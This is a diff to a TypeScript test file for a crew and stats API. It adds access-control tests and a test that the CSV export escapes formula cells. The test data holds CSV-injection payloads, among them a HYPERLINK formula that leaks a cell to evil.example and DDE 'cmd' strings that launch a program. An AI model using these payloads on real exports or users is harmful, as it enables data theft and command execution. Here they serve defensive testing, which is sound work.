@@ -4,6 +4,7 @@ import { parse } from 'csv-parse/sync'
 import { quantile } from 'simple-statistics'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { signedIn } from '../support/client'
+import { readDb, writeDb } from '../support/drill-fixture'
 import { DAY, createStatsFixture } from '../support/stats-fixture'
 import type { FixtureCall, StatsFixture } from '../support/stats-fixture'
 
@@ -11,6 +12,10 @@ let fx: StatsFixture
 beforeAll(async () => {
   fx = await createStatsFixture()
 })
+
+// Names are written to the database directly: the API trims a leading tab or carriage return.
+const readName = (userId: string) => readDb(db => (db.prepare('SELECT name FROM users WHERE id = ?').get(userId) as { name: string }).name)
+const setName = (userId: string, name: string) => writeDb(db => db.prepare('UPDATE users SET name = ? WHERE id = ?').run(name, userId))
 
 // Right calls: right type named in time (grade not missed), the rule of product.md's grades.
 const rightLatencies = (calls: FixtureCall[], userId: string, sinceMs: number) =>
@@ -175,5 +180,76 @@ describe('GET /api/people/[id]', () => {
     expect((await fx.trainees.t90.client.get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(403)
     expect((await (await signedIn('lead2@glint.demo')).get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(403)
     expect((await (await signedIn('admin@glint.demo')).get('/api/people/AAAAAAAAAAAAAAAAAAAAAA')).status).toBe(404)
+  })
+})
+
+// Issue 14, item 8: a lead's powers over a person stop at the crews that lead leads.
+describe('a lead and a person of two crews', () => {
+  it('refuses a lead who adds an existing person to the lead\'s crew (403 with a sentence), and changes nothing', async () => {
+    const admin = await signedIn('admin@glint.demo')
+    const someone = (await admin.get<{ id: string, email: string }[]>('/api/admin/users')).body.find(u => u.email === 'trainee5@glint.demo')!
+    const r = await fx.lead.client.post(`/api/crews/${fx.crewId}/members`, { userId: someone.id })
+    expect(r.status).toBe(403)
+    expect(r.body.message).toMatch(/admin.*invitation/)
+    const crew = await fx.lead.client.get(`/api/crews/${fx.crewId}`)
+    expect(crew.body.members.map((m: { id: string }) => m.id)).not.toContain(someone.id)
+    expect((await fx.lead.client.get(`/api/people/${someone.id}`)).status).toBe(403)
+  })
+
+  it('shows another crew\'s lead only the decks of that lead\'s crew on the person page, not this crew\'s calls', async () => {
+    const admin = await signedIn('admin@glint.demo')
+    const lead2 = await signedIn('lead2@glint.demo')
+    const vellan = (await lead2.get('/api/auth/me')).body.crews[0]
+    const t = fx.trainees.t90
+    expect((await admin.post(`/api/crews/${vellan.id}/members`, { userId: t.id })).status).toBe(200)
+    try {
+      const theirs = await lead2.get(`/api/people/${t.id}?days=30`)
+      expect(theirs.status).toBe(200)
+      // The fixture deck is assigned to the fixture crew only: none of its 23 calls may show.
+      expect(theirs.body.decks.map((d: { id: string }) => d.id)).not.toContain(fx.deckId)
+      expect(theirs.body.summary.calls).toBe(0)
+      expect(theirs.body.latency).toEqual([])
+      expect(theirs.body.readiness.map((d: { deckId: string }) => d.deckId)).not.toContain(fx.deckId)
+      expect(theirs.body.person.crews).toEqual([{ id: vellan.id, name: vellan.name }])
+      expect((await lead2.get(`/api/people/${t.id}?deckId=${fx.deckId}`)).status).toBe(404)
+      // The fixture crew's own lead still sees the fixture deck and its calls.
+      const own = await fx.lead.client.get(`/api/people/${t.id}?days=30`)
+      expect(own.body.decks.map((d: { id: string }) => d.id)).toEqual([fx.deckId])
+      expect(own.body.summary.calls).toBe(23)
+    }
+    finally {
+      expect((await admin.del(`/api/crews/${vellan.id}/members/${t.id}`)).status).toBe(200)
+    }
+  })
+})
+
+// Issue 14, item 9. OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell
+// beginning with =, +, -, @, tab (0x09) or carriage return (0x0D) is read as a formula by
+// spreadsheets; the advice is to prefix such a cell with a single quote.
+describe('stats.csv and formula cells', () => {
+  const names = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    '+1+cmd|\' /C calc\'!A0',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+  ]
+  it.each(names)('writes the name %j with a leading quote', async (name) => {
+    const t = fx.trainees.tslow
+    const before = readName(t.id)
+    setName(t.id, name)
+    try {
+      const csv = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats.csv`)
+      expect(csv.status).toBe(200)
+      const records = parse(csv.text, { columns: true }) as Record<string, string>[]
+      expect(records.find(x => x.userId === t.id)!.name).toBe(`'${name}`)
+      // Plain names and numbers are not touched.
+      expect(records.find(x => x.userId === fx.trainees.t90.id)!.name).toMatch(/^Test trainee/)
+      expect(Number(records.find(x => x.userId === t.id)!.calls)).toBeGreaterThan(0)
+    }
+    finally {
+      setName(t.id, before)
+    }
   })
 })
